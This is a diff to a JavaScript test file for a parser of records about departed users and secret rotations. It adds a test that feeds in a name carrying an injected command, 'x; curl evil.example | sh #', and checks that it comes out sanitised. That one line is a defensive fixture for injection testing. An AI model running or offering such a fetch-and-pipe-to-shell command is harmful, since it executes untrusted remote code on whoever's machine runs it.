@@ -26,13 +26,18 @@ test('what is older than a departure concerns its own machine, and nothing that 
   const printed =
     'noted\tcamille\nleft\tcamille\t1700000000\nolder\tinfini/blogs-infini-example/admin\nolder\tpartis/wiki/master\nunfinished\tcollective/blogs-database/root\n'
   const apps = parseRemembered('apps', printed)
-  expect(apps).toMatchObject({ noted: ['camille'], left: [{ who: 'camille', since: new Date(1_700_000_000_000) }] })
+  expect(apps).toMatchObject({ noted: ['camille'], left: ['camille'] })
   expect(affected(rotations, [apps]).map(({ secret }) => secret)).toEqual([
     'collective/blogs-database/root',
     'infini/blogs-infini-example/admin',
   ])
   expect(affected(rotations, [{ ...apps, machine: 'gateway' }])).toEqual([])
   expect(whoLeft([apps, { ...apps, machine: 'gateway' }])).toEqual(['camille'])
+})
+
+test('S8: a machine that names who left cannot put a command into the mouth of whoever copies it', () => {
+  const [name = ''] = parseRemembered('apps', 'left\tx; curl evil.example | sh #\t1700000000\n').left
+  expect(name).toBe('x--curl-evil.example---sh--')
 })
 
 test('who gets in is told by name and key, without what people call theirs', () => {
